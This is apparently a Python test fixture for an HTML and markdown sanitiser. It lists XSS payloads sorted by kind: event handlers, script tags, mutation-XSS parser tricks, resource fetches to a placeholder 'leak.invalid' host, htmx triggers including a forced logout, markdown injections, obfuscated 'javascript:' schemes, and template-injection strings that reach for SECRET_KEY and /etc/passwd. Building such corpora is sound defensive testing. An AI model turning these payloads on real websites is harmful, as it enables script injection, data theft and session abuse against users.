"""Texts that try to run a script or to send something away, by every way that is known for it.

Each calls `ran()` when a script of it runs, and asks for an address with "leak" in it when it only
fetches. The kinds are those of the OWASP cheat sheet on filter evasion, with markdown's and htmx's own.
"""

RUN = "ran()"
LEAK = "https://leak.invalid/x"
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video autoplay onloadstart={RUN}><source src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<div style=animation:x onanimationstart={RUN}>",
    f"<p onpointerenter={RUN}>x</p>",
    f"<select autofocus onfocus={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x to=y>",
    f"<object data=x onerror={RUN}></object>",
    f"<iframe onload={RUN}></iframe>",
]
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script src={LEAK}></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:text/javascript,{RUN} /></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
]
# Parsers disagree over where these end.
MUTATIONS = [
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<!--<img src='--><img src=x onerror={RUN}>'>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<xmp></xmp><img src=x onerror={RUN}>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><desc><![CDATA[</desc><img src=x onerror={RUN}>]]></svg>",
]
FETCHES = [
    f"<img src={LEAK}>",
    f"<img srcset='{LEAK} 1x'>",
    f"<link rel=stylesheet href={LEAK}>",
    f"<link rel=prefetch href={LEAK}>",
    f"<style>@import '{LEAK}'; body {{ background: url({LEAK}) }}</style>",
    f"<p style='background:url({LEAK})'>x</p>",
    f"<base href={LEAK}>",
    f"<meta http-equiv=refresh content='0;url={LEAK}'>",
    f"<video poster={LEAK}></video>",
    f"<a ping={LEAK} href=x>x</a>",
    f"<table background={LEAK}>",
    f"<svg><image href={LEAK}></image></svg>",
    f"<svg><use href='{LEAK}#x'></use></svg>",
    f"<object data={LEAK}></object>",
    "<div hx-get=/leak hx-trigger=load>x</div>",
    f"<div hx-on::load={RUN} data-hx-get=/leak data-hx-trigger=load>x</div>",
    "<button hx-post=/accounts/logout/?leak hx-trigger=load>x</button>",
]
MARKDOWN = [
    f"![x]({LEAK})",
    f"![x][1]\n\n[1]: {LEAK}",
    f"[![x]({LEAK})](https://example.org)",
    f"![x]({LEAK} '\"onerror={RUN}')",
    f"[x](https://example.org '\" onmouseover={RUN} x=\"')",
    f'[x](https://example.org"onmouseover="{RUN})',
    f"[x]: javascript:{RUN}\n\n[x]",
    f"<javascript:{RUN}>",
    f'<https://example.org"onmouseover={RUN}>',
    f"```<img/src=x/onerror={RUN}>\ncode\n```",
    f"```html\n</code></pre><img src=x onerror={RUN}>\n```",
    f"`</code><img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> |\n|:--|\n| <svg onload={RUN}> |",
    f"# <img src=x onerror={RUN}>",
    f"> <script>{RUN}</script>",
    f"- <img src=x onerror={RUN}>\n- ![x]({LEAK})",
    f"~~<img src=x onerror={RUN}>~~",
    f"    <img src=x onerror={RUN}>",
    f"<div markdown=1>\n\n![x]({LEAK})\n\n</div>",
]
JAVASCRIPT = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    " javascript:",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3A;",
    "&#106;avascript:",
    "&#x6A;&#x61;vascript:",
    "&#0000106avascript:",
    "%6aavascript:",
    "javascript%3a",
    "\\javascript:",
    "javascript\\:",
    "//javascript:",
    "javascript://example.org/%0a",
    "javascript:/*--></title></style></script>*/",
    "vbscript:",
    "livescript:",
    "data:text/html,<script>parent.ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=ran()>",
    "blob:",
    "file:///etc/passwd#",
    "feed:javascript:",
    "view-source:javascript:",
    "jar:javascript:",
    "\u2028javascript:",
]
LINKS = [
    form % f"{scheme}{RUN}"
    for scheme in JAVASCRIPT
    for form in ("[x](%s)", "[x](<%s>)", "<a href='%s'>x</a>")
]
# What stands before it: out of an attribute, an element, a comment, a script, a template.
BREAKS = [
    '"><',
    "'><",
    "-->",
    "]]>",
    "</p></div></article>",
    "</script>",
    "</title>",
    "</textarea>",
    "{{ x }}",
    "\x00",
    "\"' x=",
]
BROKEN_OUT = [
    before + text for before in BREAKS for text in (*HANDLERS[:10], SCRIPTS[0], FETCHES[0])
]
NAMES = [
    "__proto__",
    "constructor",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "${ran()}",
    "#{ran()}",
    "<%= ran() %>",
]

PAYLOADS = [*HANDLERS, *SCRIPTS, *MUTATIONS, *FETCHES, *MARKDOWN, *LINKS, *BROKEN_OUT, *NAMES]
